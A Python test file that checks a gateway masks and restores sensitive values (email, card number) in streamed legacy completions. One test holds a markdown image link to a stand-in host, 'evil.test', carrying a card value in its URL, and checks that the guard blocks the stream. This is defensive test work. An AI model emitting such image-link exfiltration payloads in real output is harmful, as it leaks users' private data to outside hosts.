"""Streams of the legacy completions wire; `contract` tests what the wire shares with the others."""

import random

import pytest

from gateway.wires.base import Body
from gateway.wires.completions import WIRE
from tests.gateway.wires.replays import (
    CARD,
    MAIL,
    QUOTED,
    byte_chunks,
    chunks,
    client,
    plan,
    read_sse,
    replay,
    session,
    sse,
)

PLACEHOLDERS, OF = session()
SAID = (f"Dear {QUOTED}, write to {MAIL}.", f"Card {CARD}; grüße")


def stream(seed: int = 0) -> bytes:
    """A streamed answer with two choices, as the upstream sends it."""
    dice = random.Random(seed)
    head = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m"}
    crossed = list(SAID)
    for value, placeholder in OF.items():
        crossed = [text.replace(value, placeholder) for text in crossed]
    queues = [[*chunks(text, dice)] for text in crossed]
    events: list[Body | str] = []
    while any(queues):
        index = dice.choice([place for place, queue in enumerate(queues) if queue])
        piece = queues[index].pop(0)
        reason = None if queues[index] else "stop"
        choice = {"index": index, "text": piece, "logprobs": None, "finish_reason": reason}
        events.append({**head, "choices": [choice]})
    usage = {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}
    return sse([*events, {**head, "choices": [], "usage": usage}, "[DONE]"])


def said(body: bytes) -> tuple[str, ...]:
    found = {0: "", 1: ""}
    for event in read_sse(body):
        for choice in event["choices"]:
            found[choice["index"]] += choice["text"]
    return found[0], found[1]


@pytest.mark.parametrize("seed", range(50))
def test_streamed_answers_are_restored(seed: int) -> None:
    source = stream(seed)
    body, end = replay(WIRE, [source], plan(PLACEHOLDERS, note={"request_id": "r"}))
    assert said(body) == SAID
    assert end.tokens == (3, 4)
    assert (
        replay(WIRE, byte_chunks(source, random.Random(seed)), plan(PLACEHOLDERS, note={"request_id": "r"}))[0] == body
    )


def test_members_beside_the_choices_of_a_stream_are_restored() -> None:
    ((value, placeholder), *_) = OF.items()
    body, _ = replay(WIRE, [sse([{"choices": [], "error": {"message": f"No {placeholder}."}}])], plan(PLACEHOLDERS))
    assert read_sse(body)[0]["error"] == {"message": f"No {value}."}


@pytest.mark.slow
def test_the_sdk_reads_the_restored_stream() -> None:
    body, _ = replay(WIRE, [stream(1)], plan(PLACEHOLDERS))
    sdk = client(lambda _: ("text/event-stream", body))
    found = ["", ""]
    for chunk in sdk.completions.create(model="m", prompt="x", stream=True):
        for choice in chunk.choices:
            found[choice.index] += choice.text
    assert tuple(found) == SAID


def test_a_withheld_stream_ends_with_its_reason() -> None:
    text = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    source = sse([{"id": "c", "choices": [{"index": 0, "text": text, "finish_reason": None}]}, "[DONE]"])
    body, end = replay(WIRE, [source], plan(PLACEHOLDERS, guard={"placeholder_in_url": "replace"}))
    assert end.outcome == "guarded"
    assert read_sse(body)[-1]["choices"][0]["finish_reason"] == "content_filter"
    assert CARD.encode() not in body
